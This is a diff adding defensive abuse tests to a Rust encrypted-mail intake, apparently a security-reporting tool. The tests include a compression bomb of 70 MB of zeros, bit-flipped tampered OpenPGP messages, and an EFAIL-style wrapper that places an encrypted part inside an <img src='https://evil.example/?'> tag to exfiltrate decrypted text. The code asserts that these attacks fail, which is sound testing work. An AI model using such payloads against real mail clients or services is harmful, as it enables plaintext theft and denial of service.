@@ -131,6 +131,8 @@ async fn abuse_p7_mails_that_do_not_open_are_all_kept_and_answered_alike() {
         bytes
     };
     let body = walk(&binary, 10).expect("packets").pop().expect("the data").body;
+    let grows = ["--encrypt", "--compress-algo", "zlib", "--recipient", "security@example.org"];
+    let bomb = gpg.prints(&grows, &vec![0; 70_000_000]);
     let mut tampered: Vec<(String, Vec<u8>)> = vec![
         ("the wrong session key".into(), [&second[two.start..two.end], data].concat()),
         ("without protection of its integrity".into(), [&binary[..one.end], &[0xc9, 20], &[7; 20][..]].concat()),
@@ -144,6 +146,7 @@ async fn abuse_p7_mails_that_do_not_open_are_all_kept_and_answered_alike() {
         ("to another key".into(), other),
         ("no packet".into(), b"?".to_vec()),
         ("nothing".into(), Vec::new()),
+        ("what grows past the budget".into(), bomb),
     ];
     // Each byte that can be changed, as far as it stays changed: every seventh, from the first header to the last of the seal.
     let last = binary.len() - 1;
@@ -168,6 +171,13 @@ async fn abuse_p7_mails_that_do_not_open_are_all_kept_and_answered_alike() {
         let shut = facts.noticed[0].contains("It is kept as it came.");
         assert!(shut || what.starts_with("byte "), "{what}: {:?}", facts.noticed);
         assert_eq!(facts.files.last().map(|file| file.name.as_str()), Some("message.eml"), "{what}");
+        // When the answer leaves, and what else waits: the clock stands still, so a difference would be one by design.
+        let waits = candor::store::outbox::waiting_for(&app.store, "reporter:0", 100).await.expect("read");
+        let waits: Vec<(String, i64, i64)> = waits
+            .into_iter()
+            .filter(|row| row.stream == case.id.0)
+            .map(|row| (row.kind, row.created_at - began.as_microsecond(), row.next_at - row.created_at))
+            .collect();
         posts(&app).await;
         let (subject, text, whole) = to(&app, &format!("eve{number}@")).pop().expect("a letter");
         let receipt = text.split("Your receipt is ").nth(1).and_then(|rest| rest.split(". ").next()).expect("one");
@@ -188,11 +198,108 @@ async fn abuse_p7_mails_that_do_not_open_are_all_kept_and_answered_alike() {
             .collect();
         let shown = as_reporter(&app, &case.id).await;
         let page = format!("{:?}\n{:?}", shown.reports[0].facts.description, shown.state);
-        said.push((what.clone(), format!("{head:?}\n{}\n{}\n{page}", same(&subject), same(&text))));
+        said.push((what.clone(), format!("{waits:?}\n{head:?}\n{}\n{}\n{page}", same(&subject), same(&text))));
     }
     for (what, answer) in &said {
         assert_eq!(answer, &said[0].1, "{what}");
     }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn abuse_p1_what_is_opened_never_gets_into_a_tag_or_an_address_that_stands_around_it() {
+    let Some(gpg) = Gpg::new() else { return };
+    let (_place, app, _) = with_key(&gpg).await;
+    let message = String::from_utf8(encrypted(&gpg, "Content-Type: text/html\n\nCANARY words\n", false)).expect("text");
+    let inline = String::from_utf8(encrypted(&gpg, "CANARY words", false)).expect("text");
+    let html = |text: &str| format!("--z\nContent-Type: text/html; charset=utf-8\n\n{text}\n");
+    let open = "<img src=\"https://evil.example/?";
+    let part = format!(
+        "--z\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=x\n\n--x\nContent-Type: \
+         application/pgp-encrypted\n\nVersion: 1\n\n--x\nContent-Type: application/octet-stream\n\n{}\n--x--\n",
+        message.trim_end()
+    );
+    let around = [
+        format!("{}{part}{}--z--", html(open), html("\">")),
+        format!("{}--z--", html(&format!("{open}\n{inline}\n\">"))),
+        format!("--z\nContent-Type: text/plain\n\nhttps://evil.example/?\n{inline}\n--z--"),
+    ];
+    for (number, body) in around.into_iter().enumerate() {
+        let more = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=z\r\n";
+        let case = filed(&app, mail(ADA, &format!("Around {number}"), more, &body)).await;
+        let said = &case.reports[0].facts.description;
+        // On a line of its own between marks, or not opened at all: never within what somebody else wrote.
+        for line in said.lines().filter(|line| line.contains("CANARY")) {
+            assert_eq!(line.trim(), "CANARY words", "{number}: {said}");
+        }
+        assert!(!said.contains("<img") && !said.contains("evil.example/?CANARY"), "{number}: {said}");
+        let shown = candor::web::markdown::to_html(said);
+        assert!(!shown.contains("<img") && !shown.contains("?CANARY"), "{number}: {shown}");
+    }
+}
+
+#[test]
+fn abuse_p7_a_thousand_tampered_messages_leave_nothing_by_which_an_answer_could_differ() {
+    use candor::mail::read::{Letter, Limits, openpgp, read_with};
+    use candor::openpgp::{Kind, Secret, armor, encrypt, random};
+    let at = "2026-03-02T09:00:00Z".parse().expect("an instant");
+    let secret = Secret::make("Desk <security@example.org>", at, None, random()).expect("a key");
+    let entity = b"Content-Type: text/plain\r\n\r\nCANARY the header is folded twice\r\n";
+    let message = encrypt::encrypt(entity, &secret.certificate(), None, at, random()).expect("encrypted");
+    let message = armor::binary(message.as_bytes(), Kind::Message, 100_000).expect("packets");
+    let ring = openpgp::Ring { secrets: vec![secret], certificates: Vec::new(), now: at };
+    let read = |bytes: &[u8]| {
+        let body = base64(bytes);
+        let raw = format!(
+            "From: Eve <{ADA}>\r\nTo: {US}\r\nSubject: ...\r\nMessage-ID: <1@outside.example>\r\nMIME-Version: 1.0\r\n\
+             Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=x\r\n\r\n--x\r\n\
+             Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--x\r\nContent-Type: application/octet-stream\r\n\
+             Content-Transfer-Encoding: base64\r\n\r\n{body}\r\n--x--\r\n"
+        );
+        read_with(raw.as_bytes(), &Limits::default(), &ring, &openpgp::here)
+    };
+    assert!(read(&message).whole().contains("CANARY"), "as it was sent it opens");
+    // All that the door looks at before it answers; the words about the protection are for the team.
+    let shown = |letter: &Letter| {
+        let files: Vec<&str> = letter.files.iter().map(|file| file.name.as_str()).collect();
+        format!(
+            "{:?} {:?} {files:?} {:?} {:?} {:?} {} {}",
+            letter.from,
+            letter.text,
+            letter.noticed,
+            letter.automatic,
+            letter.over,
+            letter.encrypted,
+            letter.subject,
+            letter.is_suspicious()
+        )
+    };
+    let mut shut = None;
+    let mut opened = 0;
+    for number in 0..1000_usize {
+        let mut bytes = message.clone();
+        // Each byte in turn, another bit each time around; every tenth is cut there.
+        let (at, bit) = (number % bytes.len(), number / bytes.len());
+        bytes[at] ^= 1 << (bit % 8);
+        if number % 10 == 9 {
+            bytes.truncate(at.max(1));
+        }
+        let letter = read(&bytes);
+        if letter.whole().contains("CANARY") {
+            // A header that says the same in another way.
+            opened += 1;
+            continue;
+        }
+        let words = letter.protection.join(" ");
+        assert!(
+            words == "Encrypted with OpenPGP; it could not be opened with the program's keys. It is kept as it came."
+                || words
+                    == "Encrypted with OpenPGP; it is encrypted to other keys than the program's. It is kept as it came.",
+            "{number}: {words}"
+        );
+        let known = shut.get_or_insert_with(|| shown(&letter));
+        assert_eq!(&shown(&letter), known, "byte {at}, bit {bit}");
+    }
+    assert!(opened < 30, "{opened} of them opened");
 }
 
 pub fn base64(bytes: &[u8]) -> String {
